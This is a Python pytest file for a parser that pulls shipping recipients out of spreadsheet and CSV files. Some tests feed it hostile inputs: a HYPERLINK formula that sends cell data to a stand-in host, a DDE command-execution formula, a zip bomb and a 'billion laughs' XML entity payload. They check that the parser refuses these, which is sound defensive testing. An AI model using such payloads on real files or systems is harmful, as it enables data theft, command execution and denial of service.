"""Recipients out of spreadsheet files: whatever the columns are called, wherever they stand, whoever made the file."""

import random
import zipfile
from io import BytesIO

import pytest
from openpyxl import Workbook

from core.errors import FileRefused
from core.recipients.sheet import MOST, Sheet, read_sheet
from tests.support.sheets import HEADS, delimited, people, saved, xlsx

ZHANG = ("张三", "13800138000", "浙江省杭州市余杭区文一西路969号")
LI = ("李四", "13900139000", "江苏省南京市鼓楼区中山路1号")


def told(sheet: Sheet) -> list[tuple[str, str, str]]:
    return [(each.pasted.name, each.phone, each.pasted.address) for each in sheet.entries]


def why(body: bytes) -> str:
    with pytest.raises(FileRefused) as refusal:
        read_sheet(body)
    return str(refusal.value.details["why"])


class TestColumns:
    def test_are_found_by_their_heads(self) -> None:
        sheet = read_sheet(xlsx(HEADS, (*ZHANG, "茶叶", 2, "易碎"), (*LI, "", "", "")))
        assert told(sheet) == [ZHANG, LI]
        first, second = sheet.entries
        assert (first.place, first.goods, first.count, first.remark) == (2, "茶叶", 2, "易碎")
        assert (second.place, second.goods, second.count, second.remark, second.flaw) == (3, "", 1, "", "")

    @pytest.mark.parametrize(
        "heads",
        [
            ("收货人姓名", "联系电话", "收货地址"),
            ("姓名*", "手机号码（必填）", "详细地址"),
            ("客户", "收件人电话", "收件人详细地址"),
            ("Name", "Phone", "Address"),
            ("收件人", "收件人手机", "收件地址"),
        ],
    )
    def test_are_known_by_many_names(self, heads: tuple[str, str, str]) -> None:
        assert told(read_sheet(xlsx(heads, ZHANG, LI))) == [ZHANG, LI]

    def test_may_hold_the_place_in_parts_and_the_sender_beside_it(self) -> None:
        heads = (
            "订单号",
            "寄件人姓名",
            "寄件人手机",
            "收件人",
            "省",
            "市",
            "区",
            "街道地址",
            "电话",
            "座机",
            "商品名称",
            "规格",
        )
        row = (
            1,
            "小满",
            "13700000000",
            "张三",
            "浙江省",
            "杭州市",
            "余杭区",
            "文一西路969号",
            "",
            "0571-88881234",
            "T恤",
            "红 L",
        )
        (entry,) = read_sheet(xlsx(heads, row)).entries
        assert told(Sheet((entry,))) == [("张三", "0571-88881234", "浙江省杭州市余杭区文一西路969号")]
        assert entry.goods == "T恤 红 L"

    def test_stand_below_a_title_and_notes(self) -> None:
        body = xlsx(
            ("11月22日发货单",),
            (),
            ("注意：请核对",),
            ("序号", *HEADS[:3]),
            (1, *ZHANG),
            (2, *LI),
            ("", "合计", "", "2"),
        )
        sheet = read_sheet(body)
        assert told(sheet) == [ZHANG, LI]
        assert [entry.place for entry in sheet.entries] == [5, 6]

    @pytest.mark.parametrize("seed", range(6))
    def test_are_found_by_what_stands_in_them_where_there_are_no_heads(self, seed: int) -> None:
        """Phone, name and address in any order, a running number in front, a count somewhere."""
        everybody = people(30)
        order = random.Random(seed).sample(range(4), 4)  # noqa: S311 - any order will do
        rows = [(n + 1, *[(*person, 1 + n % 3)[place] for place in order]) for n, person in enumerate(everybody)]
        sheet = read_sheet(xlsx(*rows))
        assert told(sheet) == everybody
        assert [entry.count for entry in sheet.entries] == [1 + n % 3 for n in range(30)]

    def test_may_be_a_single_one_with_everything_in_it(self) -> None:
        body = delimited(*[(f"{name}，{phone}，{address}",) for name, phone, address in (ZHANG, LI)], delimiter="\t")
        assert told(read_sheet(body.replace(b"\t", b""))) == [ZHANG, LI]

    def test_a_name_that_looks_like_a_street_is_still_the_name(self) -> None:
        sheet = read_sheet(xlsx(HEADS[:3], ("阿强五金店", "13800138000", "广东省深圳市南山区 科技园 张江路1号")))
        assert told(sheet) == [("阿强五金店", "13800138000", "广东省深圳市南山区科技园张江路1号")]


class TestFiles:
    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16"])
    @pytest.mark.parametrize("delimiter", [",", "\t", ";"])
    def test_of_text_are_read_in_every_usual_encoding(self, encoding: str, delimiter: str) -> None:
        body = delimited(HEADS[:3], ZHANG, LI, delimiter=delimiter, encoding=encoding)
        assert told(read_sheet(body)) == [ZHANG, LI]

    def test_of_text_may_have_line_breaks_and_commas_in_quotes(self) -> None:
        body = '收件人,手机,地址\r\n张三,13800138000,"浙江省杭州市余杭区,\n文一西路969号"\r\n'.encode("gbk")
        (entry,) = read_sheet(body).entries
        assert (entry.place, entry.pasted.detail, entry.flaw) == (2, "文一西路969号", "")

    def test_with_phones_as_numbers_are_read_as_they_are_shown(self) -> None:
        assert told(read_sheet(xlsx(HEADS[:3], ("张三", 13800138000, ZHANG[2]), ("李四", 13900139000.0, LI[2])))) == [
            ZHANG,
            LI,
        ]

    def test_are_read_from_their_first_visible_sheet_with_anything_on_it(self) -> None:
        book = Workbook()
        book.active.sheet_state = "hidden"
        book.active.append(["旧的", "13711111111", "广东省深圳市南山区1号"])
        book.create_sheet("空")
        shown = book.create_sheet("发货")
        for row in (HEADS[:3], ZHANG):
            shown.append(list(row))
        assert told(read_sheet(saved(book))) == [ZHANG]

    def test_formulas_are_never_computed(self) -> None:
        hostile = '=HYPERLINK("http://example.test/"&A1,"x")'
        sheet = read_sheet(xlsx(HEADS[:4], (*ZHANG, hostile), ("=1+1", LI[1], LI[2], "=cmd|' /C calc'!A0")))
        assert [entry.goods for entry in sheet.entries] == ["", ""]
        assert [entry.flaw for entry in sheet.entries] == ["", "no_name"]

    def test_that_are_no_sheets_say_so(self) -> None:
        assert why(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old") == "old_sheet"
        assert why(b"PK\x03\x04 broken") == "no_sheet"
        assert why(b"\x00\x01\x02" * 100) == "no_sheet"
        assert why(b"\x89PNG\r\n\x1a\n\x00\x00") == "no_sheet"
        assert why(packed({"word/document.xml": b"<x/>"})) == "no_sheet"
        assert why(b"") == "no_recipients"
        assert why(xlsx(("商品", "价格"), ("茶叶", 10))) == "no_recipients"

    def test_that_unpack_to_too_much_are_refused_unopened(self) -> None:
        bomb = packed({"xl/worksheets/sheet1.xml": bytes(120 * 1024 * 1024)})
        assert len(bomb) < 200_000
        assert why(bomb) == "too_much"
        assert why(packed({f"xl/{n}.xml": b"" for n in range(1_001)})) == "too_much"

    def test_that_expand_entities_without_end_are_refused(self) -> None:
        whole = BytesIO(xlsx(HEADS[:3], ZHANG))
        laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        lol = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><sst>&l9;</sst>'.encode()
        with zipfile.ZipFile(whole) as source:
            parts = {name: source.read(name) for name in source.namelist()}
        assert why(packed(parts | {"xl/sharedStrings.xml": lol, "xl/worksheets/sheet1.xml": lol})) == "no_sheet"

    def test_with_more_rows_than_a_batch_may_have_are_refused(self) -> None:
        row = ",".join(ZHANG)
        assert why("\n".join([row] * (MOST + 1)).encode()) == "too_many_rows"
        assert why("\n".join([row] * (MOST + 100)).encode()) == "too_many_rows"
        assert len(read_sheet("\n".join([row] * 50).encode()).entries) == 50

    def test_that_claim_to_be_endless_are_read_to_the_end_of_what_is_there(self) -> None:
        book = Workbook()
        for row in (HEADS[:3], ZHANG):
            book.active.append(list(row))
        book.active.cell(row=1_048_576, column=1, value="末")
        assert told(read_sheet(saved(book))) == [ZHANG]


class TestRows:
    def test_that_need_a_person_say_why(self) -> None:
        rows = [
            ("", "13800138000", ZHANG[2]),
            ("张三", "", ZHANG[2]),
            ("张三", "1380013800", ZHANG[2]),
            ("张三", "1.38001E+10", ZHANG[2]),
            ("张三", "13800138000", "鼓楼区中山路1号"),
            ("张三", "13800138000", "文一西路969号"),
            ("张三", "13800138000", "浙江省杭州市余杭区"),
            ZHANG,
        ]
        flaws = [entry.flaw for entry in read_sheet(xlsx(HEADS[:3], *rows)).entries]
        assert flaws == ["no_name", "no_phone", "no_phone", "phone_rounded", "which_city", "no_city", "no_detail", ""]

    def test_that_repeat_a_recipient_are_told(self) -> None:
        assert read_sheet(xlsx(HEADS[:3], ZHANG, LI, ZHANG, ZHANG)).repeated == (4, 5)

    def test_that_are_empty_are_passed_over(self) -> None:
        sheet = read_sheet(delimited(HEADS[:3], ("", "", ""), ZHANG, (" ", "", ""), LI))
        assert [entry.place for entry in sheet.entries] == [3, 5]

    def test_counts_that_are_none_are_one(self) -> None:
        heads, counts = (*HEADS[:3], "数量"), ("", 0, "两个", 3, -1, 100_000)
        entries = read_sheet(xlsx(heads, *[(*ZHANG, count) for count in counts])).entries
        assert [entry.count for entry in entries] == [1, 1, 1, 3, 1, 1]


def packed(parts: dict[str, bytes]) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return file.getvalue()
